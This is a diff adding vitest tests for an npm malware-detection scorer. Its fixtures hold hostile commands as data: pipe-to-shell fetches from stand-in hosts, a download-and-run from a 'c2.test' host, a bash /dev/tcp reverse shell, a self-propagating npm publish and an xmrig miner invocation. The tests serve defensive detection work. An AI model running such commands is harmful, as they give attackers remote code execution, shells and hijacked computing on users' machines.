@@ -1,0 +1,123 @@
+import { describe, expect, it } from 'vitest';
+import { scoreReport } from '../src/index.js';
+import { connect, proc, reportWith, script, T0, write } from './helpers.js';
+
+const rules = (v: ReturnType<typeof scoreReport>) => v.reasons.map((r) => r.rule);
+
+describe('pipe-to-shell', () => {
+  it('is conclusive for a postinstall `curl ... | sh`, listed once', () => {
+    const command = 'curl -s http://stage2.test/p.sh | sh';
+    const v = scoreReport(reportWith({ processes: [proc(['sh', '-c', command], { attribution: script('postinstall', command) }), proc(['curl', '-s', 'http://stage2.test/p.sh'])] }));
+    expect(v.verdict).toBe('malicious');
+    const pipe = v.reasons.find((r) => r.rule === 'pipe-to-shell')!;
+    expect(pipe.conclusive).toBe(true);
+    expect(pipe.evidence).toHaveLength(1);
+    expect(pipe.evidence[0]).toMatchObject({ section: 'processes', index: 0, detail: `sh -c ${command}` });
+  });
+
+  it('matches $(wget ...) and <(curl ...) forms, not a plain download', () => {
+    const v = scoreReport(reportWith({ processes: [proc(['bash', '-c', 'bash <(curl -fsSL https://x.test/i)'], { attribution: null })] }));
+    expect(rules(v)).toEqual(['pipe-to-shell']);
+    const substituted = scoreReport(reportWith({ processes: [proc(['sh', '-c', 'sh -c "$(wget -qO- http://x.test/s)"'], { attribution: null })] }));
+    expect(rules(substituted)).toEqual(['pipe-to-shell']);
+    const echoed = scoreReport(reportWith({ processes: [proc(['sh', '-c', 'echo $(curl -s http://ip.test)'], { attribution: null })] }));
+    expect(echoed.reasons).toEqual([]);
+    const plain = scoreReport(reportWith({ processes: [proc(['curl', '-o', 'out.tgz', 'https://x.test/a.tgz'], { attribution: script('install', 'x') })] }));
+    expect(rules(plain)).toEqual(['lifecycle-shell']);
+  });
+});
+
+describe('download-execute', () => {
+  it('is conclusive when curl writes /tmp/ld.py and python runs it', () => {
+    const curl = proc(['curl', '-o', '/tmp/ld.py', 'http://c2.test/ld.py'], { pid: 200, time: T0 + 1 });
+    const python = proc(['python3', '/tmp/ld.py'], { pid: 201, time: T0 + 3, path: '/usr/bin/python3.11' });
+    const v = scoreReport(reportWith({ processes: [curl, python], fileWrites: [write('/tmp/ld.py', { pid: 200, time: T0 + 2 })] }));
+    expect(v.verdict).toBe('malicious');
+    const hit = v.reasons.find((r) => r.rule === 'download-execute')!;
+    expect(hit.evidence.map((e) => [e.section, e.index, e.path])).toEqual([['fileWrites', 0, '/tmp/ld.py'], ['processes', 1, '/usr/bin/python3.11']]);
+  });
+
+  it('is only weighed when the download lands in the package folder and runs there', () => {
+    const node = proc(['node', 'install.js'], { pid: 210, time: T0 + 1 });
+    const binary = '/home/jordan/projects/app/node_modules/demo/bin/tool';
+    const run = proc([binary, '--version'], { pid: 211, time: T0 + 4, path: binary });
+    const v = scoreReport(reportWith({ processes: [node, run], fileWrites: [write(binary, { pid: 210, time: T0 + 3 })], connections: [connect(210, 443)] }));
+    expect(rules(v)).toEqual(['download-execute.own-folder']);
+    expect(v.verdict).toBe('suspicious');
+    expect(v.score).toBe(35);
+  });
+
+  it('weighs a dropped script outside the package folder that is run without a download', () => {
+    const node = proc(['node', 'install.js'], { pid: 220, time: T0 + 1 });
+    const run = proc(['sh', '/tmp/x.sh'], { pid: 221, time: T0 + 4, attribution: script('postinstall', 'node install.js') });
+    const v = scoreReport(reportWith({ processes: [node, run], fileWrites: [write('/tmp/x.sh', { pid: 220 })] }));
+    expect(rules(v)).toEqual(['dropped-file-execute', 'lifecycle-shell']);
+    expect(v.score).toBe(65);
+  });
+
+  it('ignores files npm extracted and a compiler handing its temp file to the assembler', () => {
+    const npm = proc(['node', 'npm-cli.js', 'install'], { pid: 230, attribution: null });
+    const runScript = proc(['node', '/home/jordan/projects/app/node_modules/demo/install.js'], { pid: 231, time: T0 + 5 });
+    const as = proc(['as', '-o', '/tmp/cc1.o', '/tmp/cc1.s'], { pid: 232, time: T0 + 6 });
+    const v = scoreReport(reportWith({
+      processes: [npm, runScript, as],
+      fileWrites: [write('/home/jordan/projects/app/node_modules/demo/install.js', { pid: 230 }), write('/tmp/cc1.s', { pid: 231, time: T0 + 5.5 })],
+    }));
+    expect(v.reasons).toEqual([]);
+  });
+});
+
+describe('lifecycle-shell', () => {
+  it('fires on bash started by a postinstall script but not on npm\'s own `sh -c <script>`', () => {
+    const runner = proc(['sh', '-c', 'node install.js']);
+    const bash = proc(['bash', '-c', 'uname -a']);
+    const v = scoreReport(reportWith({ processes: [runner, bash] }));
+    expect(rules(v)).toEqual(['lifecycle-shell']);
+    expect(v.reasons[0]!.evidence.map((e) => e.index)).toEqual([1]);
+    expect(v.verdict).toBe('suspicious');
+    expect(v.score).toBe(25);
+  });
+
+  it('ignores shells from the import phase and from npm itself', () => {
+    const v = scoreReport(reportWith({ processes: [proc(['sh', '-c', 'ls'], { attribution: script('import', null), phase: 'import' }), proc(['sh', '-c', 'git --version'], { attribution: null })] }));
+    expect(v.reasons).toEqual([]);
+  });
+});
+
+describe('reverse-shell.command', () => {
+  it('is conclusive on bash -i with /dev/tcp', () => {
+    const v = scoreReport(reportWith({ processes: [proc(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], { attribution: null })] }));
+    expect(v.verdict).toBe('malicious');
+    expect(rules(v)).toEqual(['reverse-shell.command']);
+  });
+
+  it('does not fire on ssh -i or plain nc -z probes', () => {
+    const v = scoreReport(reportWith({ processes: [proc(['ssh', '-i', 'key', 'host'], { attribution: null }), proc(['nc', '-z', 'localhost', '80'], { attribution: null })] }));
+    expect(v.reasons).toEqual([]);
+  });
+});
+
+describe('self-propagation.npm-publish', () => {
+  it('fires on npm publish run by a script', () => {
+    const v = scoreReport(reportWith({ processes: [proc(['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'publish', '--access', 'public'], { path: '/usr/local/bin/node' })] }));
+    expect(rules(v)).toEqual(['self-propagation.npm-publish']);
+    expect(v.verdict).toBe('malicious');
+    expect(v.score).toBe(80);
+  });
+
+  it('does not fire on npm install run by npm itself', () => {
+    expect(scoreReport(reportWith({ processes: [proc(['npm', 'install', 'publish-tools'], { attribution: null })] })).reasons).toEqual([]);
+  });
+});
+
+describe('mining.miner-binary', () => {
+  it('fires on xmrig in argv', () => {
+    const v = scoreReport(reportWith({ processes: [proc(['/tmp/.x/xmrig', '-o', 'stratum+tcp://p.test:3333'], { attribution: null })] }));
+    expect(rules(v)).toEqual(['mining.miner-binary']);
+    expect(v.score).toBe(80);
+  });
+
+  it('does not fire on an unrelated binary', () => {
+    expect(scoreReport(reportWith({ processes: [proc(['/usr/bin/xz', '-d'], { attribution: null })] })).reasons).toEqual([]);
+  });
+});
